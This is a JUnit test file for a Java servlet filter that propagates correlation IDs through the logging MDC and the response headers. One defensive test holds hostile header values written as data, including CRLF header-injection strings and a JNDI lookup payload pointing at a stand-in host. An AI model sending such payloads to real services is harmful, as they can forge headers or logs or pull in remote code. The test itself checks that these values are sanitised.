package dev.clambake.correlation;

import java.util.List;
import java.util.concurrent.atomic.AtomicReference;

import jakarta.servlet.DispatcherType;
import jakarta.servlet.FilterChain;
import jakarta.servlet.ServletRequestEvent;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockServletContext;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

@ExtendWith(OutputCaptureExtension.class)
class CorrelationIdFilterTests {

	private final CorrelationIdFilter filter = new CorrelationIdFilter(
			new CorrelationIds(new ClambakeCorrelationProperties()));

	@AfterEach
	void clear() {
		MDC.clear();
	}

	@Test
	void validIdIsEchoedAndHeldInTheMdcOnlyDuringTheRequest() throws Exception {
		MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
		request.addHeader("X-Correlation-ID", "abc-123");
		MockHttpServletResponse response = new MockHttpServletResponse();
		AtomicReference<String> seen = new AtomicReference<>();
		this.filter.doFilter(request, response, (req, res) -> seen.set(MDC.get("correlationId")));
		assertThat(seen).hasValue("abc-123");
		assertThat(response.getHeader("X-Correlation-ID")).isEqualTo("abc-123");
		assertThat(MDC.get("correlationId")).isNull();
	}

	@Test
	void requestIdIsTheFallbackHeader() throws Exception {
		MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
		request.addHeader("X-Request-ID", "from-request-id");
		MockHttpServletResponse response = new MockHttpServletResponse();
		this.filter.doFilter(request, response, (req, res) -> {
		});
		assertThat(response.getHeader("X-Correlation-ID")).isEqualTo("from-request-id");
	}

	@Test
	void idIsClearedEvenWhenTheChainThrows() {
		MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
		FilterChain failing = (req, res) -> {
			throw new IllegalStateException("boom");
		};
		try {
			this.filter.doFilter(request, new MockHttpServletResponse(), failing);
		}
		catch (Exception ex) {
			assertThat(ex).hasMessageContaining("boom");
		}
		assertThat(MDC.get("correlationId")).isNull();
	}

	@Test
	void failedRequestKeepsTheIdUntilTheListenerSeesItDestroyedThenPutsThePreviousBack() throws Exception {
		CorrelationIdRequestListener listener = new CorrelationIdRequestListener();
		MockServletContext servletContext = new MockServletContext();
		MockHttpServletRequest request = new MockHttpServletRequest(servletContext, "GET", "/");
		request.addHeader("X-Correlation-ID", "failed-1");
		MDC.put("correlationId", "outer");
		listener.requestInitialized(new ServletRequestEvent(servletContext, request));
		assertThatIllegalStateException().isThrownBy(() -> this.filter.doFilter(request,
				new MockHttpServletResponse(), (req, res) -> {
					throw new IllegalStateException("boom");
				}));
		// Where the container logs the failure
		assertThat(MDC.get("correlationId")).isEqualTo("failed-1");
		request.setDispatcherType(DispatcherType.ERROR);
		this.filter.doFilter(request, new MockHttpServletResponse(), (req, res) -> {
		});
		assertThat(MDC.get("correlationId")).isEqualTo("failed-1");
		listener.requestDestroyed(new ServletRequestEvent(servletContext, request));
		assertThat(MDC.get("correlationId")).isEqualTo("outer");
		// A request that completed is not deferred
		MockHttpServletRequest completed = new MockHttpServletRequest(servletContext, "GET", "/");
		listener.requestInitialized(new ServletRequestEvent(servletContext, completed));
		this.filter.doFilter(completed, new MockHttpServletResponse(), (req, res) -> {
		});
		assertThat(MDC.get("correlationId")).isEqualTo("outer");
	}

	@Test
	void hostileValuesAreReplacedNeverEchoedNorLoggedRaw(CapturedOutput output) throws Exception {
		((ch.qos.logback.classic.Logger) LoggerFactory.getLogger(CorrelationIds.class))
			.setLevel(ch.qos.logback.classic.Level.DEBUG);
		List<String> hostile = List.of("abc\r\nX-Forged: yes", "abc\nforged", "a".repeat(10 * 1024),
				"caf\u00e9-\u4e2d\u6587", "", "\"quoted\"", "${jndi:ldap://evil.example/a}");
		for (String value : hostile) {
			MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
			request.addHeader("X-Correlation-ID", value);
			MockHttpServletResponse response = new MockHttpServletResponse();
			AtomicReference<String> seen = new AtomicReference<>();
			this.filter.doFilter(request, response, (req, res) -> {
				seen.set(MDC.get("correlationId"));
				LoggerFactory.getLogger("test").info("inside the request");
			});
			String id = response.getHeader("X-Correlation-ID");
			assertThat(id).as(value).matches("[0-9a-f]{32}");
			assertThat(seen).hasValue(id);
			if (!value.isEmpty()) {
				assertThat(output.toString()).as(value).doesNotContain(value);
			}
		}
		assertThat(output).contains("Replaced invalid X-Correlation-ID header");
	}

	@Test
	void asyncAndErrorDispatchesReuseTheRequestsId() throws Exception {
		MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
		request.addHeader("X-Correlation-ID", "first");
		MockHttpServletResponse response = new MockHttpServletResponse();
		this.filter.doFilter(request, response, (req, res) -> {
		});
		for (DispatcherType type : List.of(DispatcherType.ASYNC, DispatcherType.ERROR)) {
			request.setDispatcherType(type);
			request.removeAttribute(CorrelationIdFilter.class.getName() + ".FILTERED");
			request.removeHeader("X-Correlation-ID");
			AtomicReference<String> seen = new AtomicReference<>();
			this.filter.doFilter(request, new MockHttpServletResponse(),
					(req, res) -> seen.set(MDC.get("correlationId")));
			assertThat(seen).as(type.name()).hasValue("first");
		}
	}

}
